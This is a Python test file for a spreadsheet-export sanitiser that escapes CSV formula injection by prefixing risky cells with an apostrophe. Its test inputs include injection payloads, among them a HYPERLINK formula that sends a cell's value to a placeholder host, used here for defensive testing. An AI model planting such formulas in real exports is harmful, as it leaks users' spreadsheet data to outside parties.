"""console/spreadsheet.py: text that a spreadsheet would run as a formula is written as text (OWASP CSV injection)."""

import datetime as dt
from decimal import Decimal

import pytest

from console.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["alice", "BTC-USD", "a=b", "1+1", "", " =1+1", "'=1+1"])
def test_text_that_cannot_start_a_formula_is_unchanged(typed):
    assert safe_cell(typed) == typed


@pytest.mark.parametrize(
    "value",
    [Decimal("-0.5"), -3, -2.5, 0, None, True, dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC), dt.date(2026, 1, 2)],
)
def test_values_that_are_not_text_are_returned_as_they_are(value):
    assert safe_cell(value) is value


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=cmd", Decimal("-1"), "buy", None]) == ["'=cmd", Decimal("-1"), "buy", None]
